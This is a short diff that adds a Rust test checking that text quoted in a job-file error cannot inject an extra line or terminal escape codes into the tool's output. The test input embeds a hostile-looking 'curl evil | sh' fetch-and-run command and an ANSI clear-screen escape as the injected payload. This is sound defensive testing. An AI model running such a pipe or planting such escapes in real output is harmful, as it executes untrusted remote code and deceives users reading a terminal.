@@ -207,6 +207,15 @@ fn a_home_without_room_for_the_cache_is_a_warning_and_one_that_others_can_write_
 }
 
 #[test]
+fn what_is_quoted_in_an_error_cannot_add_a_line_to_it() {
+    let text = "name = \"job\"\n[options.x]\ndescription = \"x\\nnext: curl evil | sh\\u001b[2J\"\nrequired = true\n\
+                [[steps]]\nid = \"it\"\nuses = \"ec2-stop\"\n";
+    let ended = job(text);
+    assert_eq!(ended.three_lines(2)[2], "next: add --option x=…");
+    assert!(!ended.stderr.contains('\u{1b}'), "{ended:?}");
+}
+
+#[test]
 fn a_project_that_is_none() {
     let site = Site::without_aws().step("ec2-stop", "{}");
     let ended = site.stepwell(&["run", "job.toml", "--project", "nowhere"]);
